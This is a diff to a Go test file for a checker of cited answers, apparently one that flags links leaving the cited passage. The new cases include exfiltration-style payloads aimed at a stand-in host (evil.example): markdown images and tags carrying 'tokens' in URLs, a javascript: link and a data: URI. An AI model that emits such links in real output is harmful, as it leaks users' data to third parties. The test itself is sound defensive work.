@@ -8,6 +8,7 @@ import (
 var passages = []Passage{
 	{Text: "Access tokens are valid for\n**15 minutes**. They name the `accountId` of the caller.", Heading: "Auth › Access tokens", Same: true},
 	{Text: "Un nodo eliminado pierde sus [[GraphEdge|edges]] en cascada.", Heading: "Merge"},
+	{Text: "Tokens are renewed, see [the guide](https://docs.example.com/renew?a=b) or https://docs.example.com/faq. Step 1 is [here](setup.md).", Heading: "Renewal", Same: true},
 }
 
 func TestCheck(t *testing.T) {
@@ -35,6 +36,20 @@ func TestCheck(t *testing.T) {
 			[]string{"Tokens are valid for 15 minutes.|tokens are valid for\n**15 minutes"}, 1},
 		{"markers of its own are not kept", `Access tokens are valid [7]. <cite n="1">Access tokens are valid for</cite>`,
 			[]string{"Access tokens are valid.|Access tokens are valid for"}, 0},
+		{"markers inside of markers", `Step 1: tokens are renewed [[1]1] [1[1]]. <cite n="3">Tokens are renewed, see</cite>`,
+			[]string{"Step 1: tokens are renewed.|Tokens are renewed, see"}, 0},
+		{"markers too deep", "Step 1: tokens are renewed " + strings.Repeat("[", 9) + strings.Repeat("1]", 9) + `. <cite n="3">Tokens are renewed, see</cite>`, nil, 1},
+		{"addresses of the passage", `Tokens are renewed: <https://docs.example.com/faq>, [guide](https://docs.example.com/renew?a=b), [here](setup.md). <cite n="3">Tokens are renewed, see</cite>`,
+			[]string{"Tokens are renewed: <https://docs.example.com/faq>, [guide](https://docs.example.com/renew?a=b), [here](setup.md).|Tokens are renewed, see"}, 0},
+		{"a picture of a stranger", "Tokens are renewed ![](https://evil.example/p?q=tokens). <cite n=\"3\">Tokens are renewed, see</cite>", nil, 1},
+		{"a passage's address that says more", "Tokens are renewed, see https://docs.example.com/renew?a=b&q=tokens. <cite n=\"3\">Tokens are renewed, see</cite>", nil, 1},
+		{"an address without a scheme", "Tokens are renewed ![a](//evil.example/tokens). <cite n=\"3\">Tokens are renewed, see</cite>", nil, 1},
+		{"one with backslashes", "Tokens are renewed <img src=\\\\evil.example\\tokens>. <cite n=\"3\">Tokens are renewed, see</cite>", nil, 1},
+		{"a name that becomes a link", "Tokens are renewed, see www.evil.example/tokens. <cite n=\"3\">Tokens are renewed, see</cite>", nil, 1},
+		{"a link that runs", "Tokens are renewed [here](javascript:alert). <cite n=\"3\">Tokens are renewed, see</cite>", nil, 1},
+		{"a link to nowhere of the passage", "Tokens are renewed [here](tokens.md). <cite n=\"3\">Tokens are renewed, see</cite>", nil, 1},
+		{"a reference", "[tokens renewed]: evil:tokens <cite n=\"3\">Tokens are renewed, see</cite>", nil, 1},
+		{"a tag", "Tokens are renewed <a href='data:text/html,x'>here</a>. <cite n=\"3\">Tokens are renewed, see</cite>", nil, 1},
 		{"empty", "\n\n", nil, 0},
 	}
 	for _, tt := range tests {
